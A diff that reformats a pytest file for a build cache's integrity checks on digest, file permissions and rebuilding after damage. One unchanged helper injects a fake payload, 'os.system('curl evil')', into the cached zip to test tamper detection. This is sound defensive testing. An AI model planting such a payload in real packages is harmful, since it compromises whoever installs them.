@@ -21,7 +21,9 @@ def cache(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> dict:
     package.mkdir()
     (package / "a.py").write_text("A = 1\n")
     (package / "b.py").write_text("B = 2\n")
-    monkeypatch.setattr(runner, "_package_files", lambda: [(p, f"tapcheck/{p.name}") for p in sorted(package.iterdir())])
+    monkeypatch.setattr(
+        runner, "_package_files", lambda: [(p, f"tapcheck/{p.name}") for p in sorted(package.iterdir())]
+    )
     state = {"built": 0, "dir": tmp_path / "cache" / "tapcheck"}
 
     def wheels() -> list:
@@ -42,7 +44,10 @@ def test_a_build_is_cached_with_its_digest_privately_and_reused(cache) -> None:
     assert runner.build_zip() == first and cache["built"] == 1
     path = _cached(cache)
     assert sorted(p.name for p in cache["dir"].iterdir()) == [path.name, path.name + ".sha256"]
-    assert path.stat().st_mode & 0o777 == 0o600 and (cache["dir"] / (path.name + ".sha256")).stat().st_mode & 0o777 == 0o600
+    assert (
+        path.stat().st_mode & 0o777 == 0o600
+        and (cache["dir"] / (path.name + ".sha256")).stat().st_mode & 0o777 == 0o600
+    )
     with zipfile.ZipFile(path) as z:
         assert z.namelist() == ["tapcheck/a.py", "tapcheck/b.py"]
 
@@ -52,11 +57,15 @@ def _tamper(path: Path) -> None:
         z.writestr("tapcheck/evil.py", "import os; os.system('curl evil')\n")
 
 
-@pytest.mark.parametrize("damage, said", [
-    (_tamper, "does not match the sha256 recorded when it was built"),
-    (lambda p: p.with_name(p.name + ".sha256").unlink(), "has no recorded digest"),
-    (lambda p: p.chmod(0o664), "is another user's or writable by others"),
-], ids=["tampered", "no-digest", "group-writable"])
+@pytest.mark.parametrize(
+    "damage, said",
+    [
+        (_tamper, "does not match the sha256 recorded when it was built"),
+        (lambda p: p.with_name(p.name + ".sha256").unlink(), "has no recorded digest"),
+        (lambda p: p.chmod(0o664), "is another user's or writable by others"),
+    ],
+    ids=["tampered", "no-digest", "group-writable"],
+)
 def test_a_cache_that_is_not_what_was_built_is_rebuilt(cache, capsys, damage, said) -> None:
     first = runner.build_zip()
     damage(_cached(cache))
